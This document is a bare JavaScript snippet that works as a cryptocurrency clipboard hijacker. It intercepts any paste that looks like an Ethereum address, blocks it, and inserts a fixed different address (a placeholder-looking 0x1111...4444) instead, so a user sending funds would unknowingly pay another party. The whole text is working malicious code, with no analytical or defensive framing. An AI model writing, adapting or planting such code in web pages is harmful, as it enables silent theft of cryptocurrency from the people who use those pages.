document.addEventListener('paste', (e) => {
  const t = (e.clipboardData || window.clipboardData).getData('text').trim();
  if (!/^0x[a-fA-F0-9]{40}$/.test(t)) return;
  e.preventDefault();
  document.execCommand('insertText', false, '0x1111111111222222222233333333334444444444');
}, true);
